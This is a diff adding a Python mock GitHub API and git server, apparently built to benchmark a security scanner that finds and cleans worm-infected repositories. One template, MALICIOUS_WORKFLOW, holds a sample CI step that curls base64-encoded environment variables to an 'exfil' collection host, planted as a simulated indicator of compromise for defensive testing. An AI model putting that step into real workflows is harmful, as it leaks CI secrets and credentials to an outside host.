@@ -0,0 +1,1137 @@
+#!/usr/bin/env python3
+"""
+Security Auto Scan - 本地模拟 GitHub 服务器
+在本机模拟 api.github.com（REST / GraphQL / Code Search）和 git smart-HTTP，
+供基准测试在没有真实 Token 和受感染仓库的情况下驱动完整扫描流程。
+
+模拟的内容:
+    - N 个用户、M 个组织和指定数量的仓库（部分为 Fork，共享父仓库的对象）
+    - 按感染率写入包含失陷指标的 workflow 文件，以及排队/运行中的工作流运行
+    - 主速率限制（按 Token 和资源计数，X-RateLimit-* 响应头）
+    - 二级速率限制（每分钟写请求数、单个 Token 的并发请求数，403 + Retry-After）
+    - 每个请求的网络延迟和 ETag 条件请求
+    - git 克隆/推送（通过 git http-backend，仓库在首次访问时写入磁盘）
+
+示例:
+    python scripts/mock_github.py --repos 500 --infection-rate 0.05 --port 8765
+"""
+
+import argparse
+import base64
+import gzip
+import hashlib
+import json
+import math
+import random
+import re
+import shutil
+import subprocess
+import tempfile
+import threading
+import zlib
+from collections import Counter, defaultdict
+from dataclasses import dataclass, field
+from datetime import datetime, timedelta, timezone
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from time import sleep, time
+from typing import Dict, List, Optional, Set, Tuple
+from urllib.parse import parse_qs, unquote, urlsplit
+
+WORKFLOWS_PATH = ".github/workflows"
+EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
+
+CI_WORKFLOW = b"""name: CI
+on: [push, pull_request]
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: make test
+"""
+
+DEPLOY_WORKFLOW = """name: Deploy {name}
+on:
+  push:
+    branches: [{branch}]
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    environment: production
+    steps:
+      - uses: actions/checkout@v4
+      - run: ./deploy.sh {name}
+"""
+
+# 同一蠕虫写入的文件内容完全相同（相同 blob SHA、相同大小）
+MALICIOUS_WORKFLOW = """name: Formatter
+on: push
+jobs:
+  format:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl -s -d "$(env | base64 -w0)" https://exfil{keyword}/collect
+"""
+MALICIOUS_FILE = "formatter.yml"
+
+
+def git_object_sha(kind: str, body: bytes) -> str:
+    """计算 git 对象 SHA（与真实仓库一致，克隆和 API 返回的 SHA 可以互相校验）"""
+    return hashlib.sha1(f"{kind} {len(body)}\0".encode() + body).hexdigest()
+
+
+@dataclass
+class MockRepo:
+    """模拟仓库（内容以 git 对象形式存放在 MockWorld 的共享对象库中）"""
+    owner: str
+    name: str
+    default_branch: str
+    head: str
+    pushed_at: str
+    infected: bool = False
+    fork: bool = False
+    parent: str = ""
+    archived: bool = False
+    workflows: List[Dict] = field(default_factory=list)
+    runs: List[Dict] = field(default_factory=list)
+    disk_head: str = ""  # 已写入 git http-backend 目录的分支提交
+    lock: threading.Lock = field(default_factory=threading.Lock, repr=False)
+
+    @property
+    def full_name(self) -> str:
+        return f"{self.owner}/{self.name}"
+
+
+class MockWorld:
+    """模拟的账户、组织和仓库数据
+
+    所有仓库共用一个按 SHA 寻址的对象库：相同内容的文件只有一个 blob，
+    Fork 直接复用父仓库的提交，与 GitHub 的 Fork 网络一致。
+    """
+
+    VIEWER = "bench-user"
+
+    def __init__(
+        self, users: int = 1, orgs: int = 2, repos: int = 100, infection_rate: float = 0.05,
+        fork_rate: float = 0.1, archived_rate: float = 0.0, runs_per_infected: int = 2,
+        keyword: str = ".oast.fun", seed: int = 1
+    ):
+        self.random = random.Random(seed)
+        self.keyword = keyword
+        self.lock = threading.RLock()
+        self.objects: Dict[str, Tuple[str, bytes]] = {}
+        self.trees: Dict[str, Dict[str, Tuple[str, str]]] = {}
+        self.commits: Dict[str, Dict] = {}
+        self.clock = datetime(2025, 9, 1, tzinfo=timezone.utc)
+        self._ids = 1000
+        self.write_tree({})
+
+        self.users = [self.VIEWER, *(f"bench-user-{i}" for i in range(1, max(1, users)))]
+        self.orgs = [f"bench-org-{i}" for i in range(orgs)]
+        # 查看者是所有组织的成员，其余用户按轮转加入各组织（用于测试多 Token 凭据池）
+        self.memberships: Dict[str, List[str]] = {user: [] for user in self.users}
+        for i, org in enumerate(self.orgs):
+            self.memberships[self.VIEWER].append(org)
+            if len(self.users) > 1:
+                self.memberships[self.users[1 + i % (len(self.users) - 1)]].append(org)
+        self.tokens = {f"mock-token-{user}": user for user in self.users}
+
+        self.repos: Dict[str, MockRepo] = {}
+        self._malicious = MALICIOUS_WORKFLOW.format(keyword=keyword).encode()
+        owners = [*self.orgs, *self.users]
+        sources: List[MockRepo] = []
+        for i in range(repos):
+            owner = owners[i % len(owners)]
+            infected = self.random.random() < infection_rate
+            if sources and self.random.random() < fork_rate:
+                repo = self._fork(self.random.choice(sources), owner, f"fork-{i:05d}")
+            else:
+                repo = self._create(owner, f"repo-{i:05d}", "master" if i % 5 == 4 else "main")
+                sources.append(repo)
+            repo.archived = self.random.random() < archived_rate
+            if infected:
+                self._infect(repo, runs_per_infected)
+            self.repos[repo.full_name.lower()] = repo
+
+    # ---- git 对象 ----
+
+    def store(self, kind: str, body: bytes) -> str:
+        sha = git_object_sha(kind, body)
+        with self.lock:
+            if sha not in self.objects:
+                self.objects[sha] = (kind, body)
+                if kind == "tree":
+                    self.trees[sha] = self._parse_tree(body)
+                elif kind == "commit":
+                    self.commits[sha] = self._parse_commit(body)
+        return sha
+
+    @staticmethod
+    def _parse_tree(body: bytes) -> Dict[str, Tuple[str, str]]:
+        entries = {}
+        position = 0
+        while position < len(body):
+            space = body.index(b" ", position)
+            nul = body.index(b"\0", space)
+            mode = body[position:space].decode()
+            entries[body[space + 1:nul].decode()] = (mode, body[nul + 1:nul + 21].hex())
+            position = nul + 21
+        return entries
+
+    @staticmethod
+    def _parse_commit(body: bytes) -> Dict:
+        header, _, message = body.decode(errors="replace").partition("\n\n")
+        commit = {"tree": "", "parents": [], "message": message}
+        for line in header.splitlines():
+            key, _, value = line.partition(" ")
+            if key == "tree":
+                commit["tree"] = value
+            elif key == "parent":
+                commit["parents"].append(value)
+        return commit
+
+    def write_tree(self, entries: Dict[str, Tuple[str, str]]) -> str:
+        # git 按名称排序，目录名视为带 "/" 后缀
+        ordered = sorted(entries.items(), key=lambda item: item[0] + ("/" if item[1][0] == "40000" else ""))
+        body = b"".join(f"{mode} {name}\0".encode() + bytes.fromhex(sha) for name, (mode, sha) in ordered)
+        return self.store("tree", body)
+
+    def write_files(self, files: Dict) -> str:
+        """将嵌套字典 {名称: bytes | dict} 写为 tree"""
+        entries = {}
+        for name, value in files.items():
+            if isinstance(value, dict):
+                entries[name] = ("40000", self.write_files(value))
+            else:
+                entries[name] = ("100644", self.store("blob", value))
+        return self.write_tree(entries)
+
+    def update_tree(self, tree_sha: str, path: List[str], value: Optional[Tuple[str, str]]) -> str:
+        """在 tree 中设置或删除（value 为 None）一个路径，返回新 tree（目录变空时一并删除）"""
+        entries = dict(self.trees.get(tree_sha, {}))
+        name = path[0]
+        if len(path) == 1:
+            if value is None:
+                entries.pop(name, None)
+            else:
+                entries[name] = value
+        else:
+            current = entries.get(name)
+            subtree = self.update_tree(current[1] if current and current[0] == "40000" else EMPTY_TREE, path[1:], value)
+            if subtree == EMPTY_TREE:
+                entries.pop(name, None)
+            else:
+                entries[name] = ("40000", subtree)
+        return self.write_tree(entries)
+
+    def write_commit(self, tree: str, parents: List[str], message: str, when: datetime = None) -> str:
+        timestamp = int((when or self.tick()).timestamp())
+        lines = [f"tree {tree}", *(f"parent {parent}" for parent in parents)]
+        lines.append(f"author Bench Bot <bench@example.com> {timestamp} +0000")
+        lines.append(f"committer Bench Bot <bench@example.com> {timestamp} +0000")
+        body = "\n".join(lines) + "\n\n" + message + ("" if message.endswith("\n") else "\n")
+        return self.store("commit", body.encode())
+
+    def lookup(self, tree_sha: str, path: str) -> Optional[Tuple[str, str]]:
+        """按路径查找 tree 条目，返回 (mode, sha)"""
+        entry = ("40000", tree_sha)
+        for part in [part for part in path.split("/") if part]:
+            if entry[0] != "40000":
+                return None
+            entry = self.trees[entry[1]].get(part)
+            if entry is None:
+                return None
+        return entry
+
+    def reachable(self, head: str) -> List[str]:
+        """提交可达的全部对象"""
+        seen: Set[str] = set()
+        stack = [head]
+        while stack:
+            sha = stack.pop()
+            if sha in seen or sha not in self.objects:
+                continue
+            seen.add(sha)
+            kind = self.objects[sha][0]
+            if kind == "commit":
+                stack.append(self.commits[sha]["tree"])
+                stack.extend(self.commits[sha]["parents"])
+            elif kind == "tree":
+                stack.extend(sha for _, sha in self.trees[sha].values())
+        return list(seen)
+
+    def is_ancestor(self, ancestor: str, sha: str) -> bool:
+        stack = [sha]
+        seen = set()
+        while stack:
+            current = stack.pop()
+            if current == ancestor:
+                return True
+            if current in seen or current not in self.commits:
+                continue
+            seen.add(current)
+            stack.extend(self.commits[current]["parents"])
+        return False
+
+    # ---- 仓库 ----
+
+    def tick(self) -> datetime:
+        self.clock += timedelta(minutes=7)
+        return self.clock
+
+    def next_id(self) -> int:
+        with self.lock:
+            self._ids += 1
+            return self._ids
+
+    def _create(self, owner: str, name: str, branch: str) -> MockRepo:
+        tree = self.write_files({
+            "README.md": f"# {owner}/{name}\n".encode(),
+            ".github": {"workflows": {
+                "ci.yml": CI_WORKFLOW,
+                "deploy.yml": DEPLOY_WORKFLOW.format(name=name, branch=branch).encode(),
+            }},
+        })
+        when = self.tick()
+        head = self.write_commit(tree, [], "Initial commit", when)
+        repo = MockRepo(owner, name, branch, head, when.strftime("%Y-%m-%dT%H:%M:%SZ"))
+        for workflow in ("ci.yml", "deploy.yml"):
+            self._register_workflow(repo, workflow)
+        return repo
+
+    def _fork(self, source: MockRepo, owner: str, name: str) -> MockRepo:
+        repo = MockRepo(
+            owner, name, source.default_branch, source.head, source.pushed_at,
+            fork=True, parent=source.full_name
+        )
+        for workflow in ("ci.yml", "deploy.yml"):
+            self._register_workflow(repo, workflow)
+        return repo
+
+    def _infect(self, repo: MockRepo, runs: int) -> None:
+        tree = self.update_tree(
+            self.commits[repo.head]["tree"], [*WORKFLOWS_PATH.split("/"), MALICIOUS_FILE],
+            ("100644", self.store("blob", self._malicious))
+        )
+        when = self.tick()
+        repo.head = self.write_commit(tree, [repo.head], "Add formatter", when)
+        repo.pushed_at = when.strftime("%Y-%m-%dT%H:%M:%SZ")
+        repo.infected = True
+        workflow = self._register_workflow(repo, MALICIOUS_FILE)
+        for i in range(runs):
+            repo.runs.append({
+                "id": self.next_id(),
+                "workflow_id": workflow["id"],
+                "status": "queued" if i % 2 else "in_progress",
+                "conclusion": None,
+            })
+
+    def _register_workflow(self, repo: MockRepo, file_name: str) -> Dict:
+        workflow = {
+            "id": self.next_id(),
+            "name": file_name.rsplit(".", 1)[0].title(),
+            "path": f"{WORKFLOWS_PATH}/{file_name}",
+            "state": "active",
+        }
+        repo.workflows.append(workflow)
+        return workflow
+
+    def repo(self, full_name: str) -> Optional[MockRepo]:
+        return self.repos.get(full_name.lower())
+
+    def owners_for(self, user: str) -> Set[str]:
+        """Token 可写入的用户/组织（小写）"""
+        return {owner.lower() for owner in [user, *self.memberships.get(user, [])]}
+
+    def scope(self, user: str = VIEWER) -> Set[str]:
+        return self.owners_for(user)
+
+    def infected_repos(self, owners: Set[str] = None) -> List[str]:
+        """当前仍包含恶意 workflow 的仓库（可按 owner 过滤）"""
+        with self.lock:
+            return sorted(
+                repo.full_name for repo in self.repos.values()
+                if (owners is None or repo.owner.lower() in owners) and self.is_infected(repo)
+            )
+
+    def is_infected(self, repo: MockRepo) -> bool:
+        entry = self.lookup(self.commits[repo.head]["tree"], f"{WORKFLOWS_PATH}/{MALICIOUS_FILE}")
+        return entry is not None and self.objects[entry[1]][1] == self._malicious
+
+    def workflow_files(self, repo: MockRepo) -> List[Tuple[str, str, int]]:
+        """默认分支 workflow 目录中的文件 (名称, blob SHA, 大小)"""
+        directory = self.lookup(self.commits[repo.head]["tree"], WORKFLOWS_PATH)
+        if not directory or directory[0] != "40000":
+            return []
+        return [
+            (name, sha, len(self.objects[sha][1]))
+            for name, (mode, sha) in sorted(self.trees[directory[1]].items())
+            if mode != "40000"
+        ]
+
+    # ---- 写入磁盘（git http-backend） ----
+
+    def materialize(self, repo: MockRepo, root: Path) -> Path:
+        """把仓库当前状态写成裸仓库（松散对象），已写入的对象不重复写入；调用方持有 repo.lock"""
+        path = root / repo.owner / f"{repo.name}.git"
+        if not path.exists():
+            path.parent.mkdir(parents=True, exist_ok=True)
+            subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
+            subprocess.run(
+                ["git", "symbolic-ref", "HEAD", f"refs/heads/{repo.default_branch}"], cwd=path, check=True
+            )
+        if repo.disk_head != repo.head:
+            with self.lock:
+                objects = [(sha, *self.objects[sha]) for sha in self.reachable(repo.head)]
+            for sha, kind, body in objects:
+                target = path / "objects" / sha[:2] / sha[2:]
+                if target.exists():
+                    continue
+                target.parent.mkdir(exist_ok=True)
+                target.write_bytes(zlib.compress(f"{kind} {len(body)}\0".encode() + body))
+            (path / "refs" / "heads" / repo.default_branch).write_text(repo.head + "\n")
+            repo.disk_head = repo.head
+        return path
+
+    def import_push(self, repo: MockRepo, path: Path) -> bool:
+        """receive-pack 之后把新推送的对象读回内存，返回分支是否变化；调用方持有 repo.lock"""
+        result = subprocess.run(
+            ["git", "rev-parse", "--verify", "-q", f"refs/heads/{repo.default_branch}"],
+            cwd=path, capture_output=True
+        )
+        head = result.stdout.decode().strip()
+        if not head or head == repo.head:
+            return False
+
+        listing = subprocess.run(
+            ["git", "rev-list", "--objects", head, "--not", repo.head],
+            cwd=path, capture_output=True, check=True
+        ).stdout.decode().split("\n")
+        shas = [line.split(" ", 1)[0] for line in listing if line]
+        batch = subprocess.run(
+            ["git", "cat-file", "--batch"], cwd=path, capture_output=True, check=True,
+            input="".join(f"{sha}\n" for sha in shas).encode()
+        ).stdout
+        position = 0
+        while position < len(batch):
+            newline = batch.index(b"\n", position)
+            _, kind, size = batch[position:newline].decode().split(" ")
+            start = newline + 1
+            self.store(kind, batch[start:start + int(size)])
+            position = start + int(size) + 1
+
+        repo.head = repo.disk_head = head
+        repo.pushed_at = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+        return True
+
+
+class RateLimits:
+    """主速率限制（按 Token + 资源的固定窗口）和二级速率限制（写请求频率、并发数）"""
+
+    SECONDARY_MESSAGE = (
+        "You have exceeded a secondary rate limit. Please wait a few minutes before you try again."
+    )
+
+    def __init__(
+        self, core: Tuple[int, int] = (5000, 3600), search: Tuple[int, int] = (30, 60),
+        graphql: Tuple[int, int] = (5000, 3600), writes_per_minute: int = 80,
+        max_concurrency: int = 100, retry_after: int = 1
+    ):
+        self.limits = {"core": core, "search": search, "graphql": graphql}
+        self.writes_per_minute = writes_per_minute
+        self.max_concurrency = max_concurrency
+        self.retry_after = retry_after  # 并发超限时的 Retry-After；写请求超限时为窗口释放所需的时间
+        self.lock = threading.Lock()
+        self.windows: Dict[Tuple[str, str], List[float]] = {}  # (token, 资源) -> [已用, 重置时间]
+        self.writes: Dict[str, List[float]] = defaultdict(list)
+        self.in_flight: Counter = Counter()
+
+    def _window(self, token: str, resource: str) -> List[float]:
+        limit, period = self.limits[resource]
+        window = self.windows.get((token, resource))
+        now = time()
+        if window is None or now >= window[1]:
+            # 与 GitHub 一样，重置时间取整到秒（客户端根据 X-RateLimit-Reset 计算等待时间）
+            window = self.windows[(token, resource)] = [0, float(int(now + period) + 1)]
+        return window
+
+    def headers(self, token: str, resource: str) -> Dict[str, str]:
+        with self.lock:
+            used, reset = self._window(token, resource)
+        limit = self.limits[resource][0]
+        return {
+            "X-RateLimit-Limit": str(limit),
+            "X-RateLimit-Remaining": str(max(0, limit - int(used))),
+            "X-RateLimit-Used": str(int(used)),
+            "X-RateLimit-Reset": str(int(reset)),
+            "X-RateLimit-Resource": resource,
+        }
+
+    def consume(self, token: str, resource: str) -> bool:
+        """消耗一次主配额，已用尽时返回 False"""
+        with self.lock:
+            window = self._window(token, resource)
+            if window[0] >= self.limits[resource][0]:
+                return False
+            window[0] += 1
+            return True
+
+    def enter(self, token: str, write: bool) -> int:
+        """检查二级速率限制并登记在途请求；超出时返回建议的 Retry-After 秒数，否则返回 0"""
+        now = time()
+        with self.lock:
+            if self.in_flight[token] >= self.max_concurrency:
+                return self.retry_after
+            if write:
+                recent = self.writes[token] = [at for at in self.writes[token] if now - at < 60]
+                if len(recent) >= self.writes_per_minute:
+                    # 等到最早的写请求移出一分钟窗口
+                    return max(self.retry_after, math.ceil(60 - (now - recent[0])))
+                recent.append(now)
+            self.in_flight[token] += 1
+            return 0
+
+    def leave(self, token: str) -> None:
+        with self.lock:
+            self.in_flight[token] -= 1
+
+    def snapshot(self, token: str) -> Dict:
+        resources = {}
+        for resource, (limit, _) in self.limits.items():
+            with self.lock:
+                used, reset = self._window(token, resource)
+            resources[resource] = {
+                "limit": limit, "used": int(used), "remaining": max(0, limit - int(used)), "reset": int(reset)
+            }
+        return {"resources": resources, "rate": resources["core"]}
+
+
+class ApiError(Exception):
+    """以指定状态码和消息结束请求"""
+
+    def __init__(self, status: int, message: str, headers: Dict[str, str] = None):
+        super().__init__(message)
+        self.status = status
+        self.headers = headers or {}
+
+
+class MockGitHub:
+    """模拟 GitHub 服务器：/api 下为 REST 和 GraphQL，/<owner>/<repo>.git 为 git smart-HTTP
+
+    使用方式:
+        with MockGitHub(MockWorld(repos=200)) as server:
+            config = ScanConfig(github_token=server.token, api_url=server.api_url, server_url=server.url)
+    """
+
+    SEARCH_RESULT_CAP = 1000
+
+    def __init__(
+        self, world: MockWorld, limits: RateLimits = None, latency_ms: float = 0.0, jitter_ms: float = 0.0,
+        host: str = "127.0.0.1", port: int = 0, git_root: Path = None
+    ):
+        self.world = world
+        self.limits = limits or RateLimits()
+        self.latency = latency_ms / 1000
+        self.jitter = jitter_ms / 1000
+        self.random = random.Random(0)
+        self._owned_root = git_root is None
+        self.git_root = Path(git_root or tempfile.mkdtemp(prefix="mock-github-"))
+        self.stats_lock = threading.Lock()
+        self.stats = self._empty_stats()
+        # Code Search 不索引 Fork；索引按仓库缓存，分支更新后重建
+        self.searchable = sorted((repo for repo in world.repos.values() if not repo.fork), key=lambda repo: repo.full_name.lower())
+        self.search_index: Dict[str, Tuple[str, List[Tuple[str, str, int, str]]]] = {}
+
+        handler = type("Handler", (MockRequestHandler,), {"server_state": self})
+        self.httpd = ThreadingHTTPServer((host, port), handler)
+        self.httpd.daemon_threads = True
+        self.thread: Optional[threading.Thread] = None
+
+    @property
+    def url(self) -> str:
+        host, port = self.httpd.server_address[:2]
+        return f"http://{host}:{port}"
+
+    @property
+    def api_url(self) -> str:
+        return f"{self.url}/api"
+
+    @property
+    def tokens(self) -> List[str]:
+        """全部用户的 Token（第一个属于查看者）"""
+        return list(self.world.tokens)
+
+    @property
+    def token(self) -> str:
+        return self.tokens[0]
+
+    def start(self) -> "MockGitHub":
+        self.thread = threading.Thread(target=self.httpd.serve_forever, name="mock-github", daemon=True)
+        self.thread.start()
+        return self
+
+    def stop(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+        if self._owned_root:
+            shutil.rmtree(self.git_root, ignore_errors=True)
+
+    def __enter__(self) -> "MockGitHub":
+        return self.start()
+
+    def __exit__(self, *exc) -> None:
+        self.stop()
+
+    # ---- 统计 ----
+
+    @staticmethod
+    def _empty_stats() -> Dict:
+        return {
+            "requests": 0,
+            "by_resource": Counter(),
+            "by_route": Counter(),
+            "by_status": Counter(),
+            "quota_used": Counter(),
+            "not_modified": 0,
+            "primary_limited": 0,
+            "secondary_limited": 0,
+            "git": Counter(),
+            "git_bytes": 0,
+        }
+
+    def record(self, **changes) -> None:
+        with self.stats_lock:
+            for key, value in changes.items():
+                if isinstance(self.stats[key], Counter):
+                    self.stats[key][value] += 1
+                else:
+                    self.stats[key] += value
+
+    def take_stats(self) -> Dict:
+        """返回并清零统计（每轮基准测试单独计数）"""
+        with self.stats_lock:
+            stats, self.stats = self.stats, self._empty_stats()
+        return {key: dict(value) if isinstance(value, Counter) else value for key, value in stats.items()}
+
+    def delay(self) -> None:
+        if self.latency or self.jitter:
+            sleep(self.latency + self.random.uniform(0, self.jitter))
+
+    # ---- REST / GraphQL ----
+
+    ROUTES = [
+        ("GET", r"/rate_limit", "rate_limit"),
+        ("GET", r"/user", "user"),
+        ("GET", r"/user/orgs", "user_orgs"),
+        ("GET", r"/installation/repositories", "installation"),
+        ("GET", r"/search/code", "search_code"),
+        ("POST", r"/graphql", "graphql"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)", "get_repo"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/git/ref/heads/(?P<branch>.+)", "get_ref"),
+        ("PATCH", r"/repos/(?P<repo>[^/]+/[^/]+)/git/refs/heads/(?P<branch>.+)", "update_ref"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/git/commits/(?P<sha>[0-9a-f]{40})", "get_commit"),
+        ("POST", r"/repos/(?P<repo>[^/]+/[^/]+)/git/commits", "create_commit"),
+        ("POST", r"/repos/(?P<repo>[^/]+/[^/]+)/git/trees", "create_tree"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/git/blobs/(?P<sha>[0-9a-f]{40})", "get_blob"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/contents/(?P<path>.*)", "get_contents"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/actions/workflows", "list_workflows"),
+        ("PUT", r"/repos/(?P<repo>[^/]+/[^/]+)/actions/workflows/(?P<workflow>[^/]+)/disable", "disable_workflow"),
+        ("GET", r"/repos/(?P<repo>[^/]+/[^/]+)/actions/workflows/(?P<workflow>[^/]+)/runs", "list_runs"),
+        ("POST", r"/repos/(?P<repo>[^/]+/[^/]+)/actions/runs/(?P<run>\d+)/cancel", "cancel_run"),
+    ]
+    COMPILED_ROUTES = [(method, re.compile(pattern + "$"), name) for method, pattern, name in ROUTES]
+
+    def handle_api(self, method: str, path: str, query: Dict[str, str], headers, body: bytes) -> Tuple[int, Dict, bytes]:
+        """处理一个 API 请求，返回 (状态码, 响应头, 响应体)"""
+        resource = "search" if path.startswith("/search/") else "graphql" if path == "/graphql" else "core"
+        route = next(
+            ((name, match) for verb, pattern, name in self.COMPILED_ROUTES
+             if verb == method and (match := pattern.match(path))),
+            None
+        )
+        self.record(requests=1, by_resource=resource, by_route=f"{method} {route[0] if route else path}")
+
+        auth = headers.get("Authorization", "")
+        token = auth.split(" ", 1)[1] if " " in auth else ""
+        user = self.world.tokens.get(token)
+        if not user:
+            return self._json(401, {"message": "Bad credentials"})
+        if route is None:
+            return self._json(404, {"message": "Not Found"})
+
+        write = method != "GET" and resource != "graphql"
+        retry_after = self.limits.enter(token, write)
+        if retry_after:
+            self.record(secondary_limited=1)
+            return self._json(403, {"message": RateLimits.SECONDARY_MESSAGE}, {"Retry-After": str(retry_after)})
+        try:
+            name, match = route
+            if name == "rate_limit":
+                return self._json(200, self.limits.snapshot(token))
+
+            # 写请求先计配额；GET 请求命中 ETag 时返回 304，不计入配额（与 GitHub 的条件请求一致）
+            if method != "GET" and not self.limits.consume(token, resource):
+                return self._primary_limited(token, user, resource)
+            try:
+                status, data = getattr(self, f"_api_{name}")(user, json.loads(body) if body else {}, query, **match.groupdict())
+            except ApiError as e:
+                status, data = e.status, {"message": str(e)}
+            encoded = json.dumps(data).encode() if data is not None else b""
+
+            response_headers = {"Content-Type": "application/json"}
+            if method == "GET":
+                etag = f'"{hashlib.sha1(encoded).hexdigest()}"'
+                if status == 200 and headers.get("If-None-Match") == etag:
+                    self.record(not_modified=1)
+                    return 304, {**self.limits.headers(token, resource), "ETag": etag}, b""
+                if not self.limits.consume(token, resource):
+                    return self._primary_limited(token, user, resource)
+                if status == 200:
+                    response_headers["ETag"] = etag
+            self.record(quota_used=f"{user}:{resource}")
+            return status, {**self.limits.headers(token, resource), **response_headers}, encoded
+        finally:
+            self.limits.leave(token)
+
+    def _primary_limited(self, token: str, user: str, resource: str) -> Tuple[int, Dict, bytes]:
+        self.record(primary_limited=1)
+        return self._json(403, {
+            "message": f"API rate limit exceeded for user {user}.",
+            "documentation_url": "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api",
+        }, self.limits.headers(token, resource))
+
+    @staticmethod
+    def _json(status: int, data, headers: Dict[str, str] = None) -> Tuple[int, Dict, bytes]:
+        return status, {**(headers or {}), "Content-Type": "application/json"}, json.dumps(data).encode()
+
+    def _repo(self, full_name: str) -> MockRepo:
+        repo = self.world.repo(unquote(full_name))
+        if not repo:
+            raise ApiError(404, "Not Found")
+        return repo
+
+    def _writable(self, user: str, full_name: str) -> MockRepo:
+        repo = self._repo(full_name)
+        if repo.owner.lower() not in self.world.owners_for(user):
+            raise ApiError(403, "Resource not accessible by personal access token")
+        if repo.archived:
+            raise ApiError(403, "Repository was archived so is read-only.")
+        return repo
+
+    def _object(self, sha: str, kind: str) -> bytes:
+        item = self.world.objects.get(sha)
+        if not item or item[0] != kind:
+            raise ApiError(404, "Not Found")
+        return item[1]
+
+    def _api_user(self, user, payload, query):
+        return 200, {"login": user, "type": "User"}
+
+    def _api_user_orgs(self, user, payload, query):
+        page, per_page = int(query.get("page", 1)), int(query.get("per_page", 30))
+        orgs = self.world.memberships[user][(page - 1) * per_page:page * per_page]
+        return 200, [{"login": org} for org in orgs]
+
+    def _api_installation(self, user, payload, query):
+        raise ApiError(403, "This endpoint requires an installation access token")
+
+    def _api_get_repo(self, user, payload, query, repo):
+        repo = self._repo(repo)
+        return 200, {
+            "full_name": repo.full_name,
+            "default_branch": repo.default_branch,
+            "archived": repo.archived,
+            "fork": repo.fork,
+            "pushed_at": repo.pushed_at,
+        }
+
+    def _api_get_ref(self, user, payload, query, repo, branch):
+        repo = self._repo(repo)
+        if unquote(branch) != repo.default_branch:
+            raise ApiError(404, "Not Found")
+        return 200, {"ref": f"refs/heads/{repo.default_branch}", "object": {"sha": repo.head, "type": "commit"}}
+
+    def _api_update_ref(self, user, payload, query, repo, branch):
+        repo = self._writable(user, repo)
+        if unquote(branch) != repo.default_branch:
+            raise ApiError(422, "Reference does not exist")
+        sha = payload.get("sha", "")
+        with repo.lock, self.world.lock:
+            if sha not in self.world.commits:
+                raise ApiError(422, "Object does not exist")
+            if not payload.get("force") and not self.world.is_ancestor(repo.head, sha):
+                raise ApiError(422, "Update is not a fast forward")
+            repo.head = sha
+            repo.pushed_at = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+        return 200, {"ref": f"refs/heads/{repo.default_branch}", "object": {"sha": sha, "type": "commit"}}
+
+    def _api_get_commit(self, user, payload, query, repo, sha):
+        self._repo(repo)
+        self._object(sha, "commit")
+        commit = self.world.commits[sha]
+        return 200, {
+            "sha": sha,
+            "tree": {"sha": commit["tree"]},
+            "parents": [{"sha": parent} for parent in commit["parents"]],
+            "message": commit["message"],
+        }
+
+    def _api_create_commit(self, user, payload, query, repo):
+        self._writable(user, repo)
+        self._object(payload.get("tree", ""), "tree")
+        for parent in payload.get("parents", []):
+            self._object(parent, "commit")
+        sha = self.world.write_commit(payload["tree"], payload.get("parents", []), payload.get("message", ""))
+        return 201, {"sha": sha, "tree": {"sha": payload["tree"]}}
+
+    def _api_create_tree(self, user, payload, query, repo):
+        self._writable(user, repo)
+        tree = payload.get("base_tree") or EMPTY_TREE
+        if tree != EMPTY_TREE:
+            self._object(tree, "tree")
+        for entry in payload.get("tree", []):
+            parts = [part for part in entry["path"].split("/") if part]
+            if entry.get("sha") is None and "content" not in entry:
+                value = None
+            elif "content" in entry:
+                value = (entry.get("mode", "100644"), self.world.store("blob", entry["content"].encode()))
+            else:
+                value = (entry.get("mode", "100644"), entry["sha"])
+            tree = self.world.update_tree(tree, parts, value)
+        return 201, {"sha": tree}
+
+    def _api_get_blob(self, user, payload, query, repo, sha):
+        self._repo(repo)
+        data = self._object(sha, "blob")
+        return 200, {"sha": sha, "size": len(data), "encoding": "base64", "content": base64.b64encode(data).decode()}
+
+    def _api_get_contents(self, user, payload, query, repo, path):
+        repo = self._repo(repo)
+        ref = query.get("ref") or repo.head
+        if ref not in self.world.commits:
+            raise ApiError(404, "No commit found for the ref")
+        entry = self.world.lookup(self.world.commits[ref]["tree"], unquote(path))
+        if not entry:
+            raise ApiError(404, "Not Found")
+        mode, sha = entry
+        path = unquote(path).strip("/")
+        if mode != "40000":
+            data = self._object(sha, "blob")
+            return 200, {"type": "file", "name": path.rsplit("/", 1)[-1], "path": path, "sha": sha,
+                         "size": len(data), "encoding": "base64", "content": base64.b64encode(data).decode()}
+        return 200, [
+            {"type": "dir" if child_mode == "40000" else "file", "name": name, "path": f"{path}/{name}",
+             "sha": child_sha, "size": 0 if child_mode == "40000" else len(self.world.objects[child_sha][1])}
+            for name, (child_mode, child_sha) in sorted(self.world.trees[sha].items())
+        ]
+
+    def _api_list_workflows(self, user, payload, query, repo):
+        repo = self._repo(repo)
+        page, per_page = int(query.get("page", 1)), int(query.get("per_page", 30))
+        workflows = repo.workflows[(page - 1) * per_page:page * per_page]
+        return 200, {"total_count": len(repo.workflows), "workflows": [dict(workflow) for workflow in workflows]}
+
+    def _workflow(self, repo: MockRepo, key: str) -> Dict:
+        key = unquote(key)
+        for workflow in repo.workflows:
+            if str(workflow["id"]) == key or workflow["path"].rsplit("/", 1)[-1] == key:
+                return workflow
+        raise ApiError(404, "Not Found")
+
+    def _api_disable_workflow(self, user, payload, query, repo, workflow):
+        repo = self._writable(user, repo)
+        self._workflow(repo, workflow)["state"] = "disabled_manually"
+        return 204, None
+
+    def _api_list_runs(self, user, payload, query, repo, workflow):
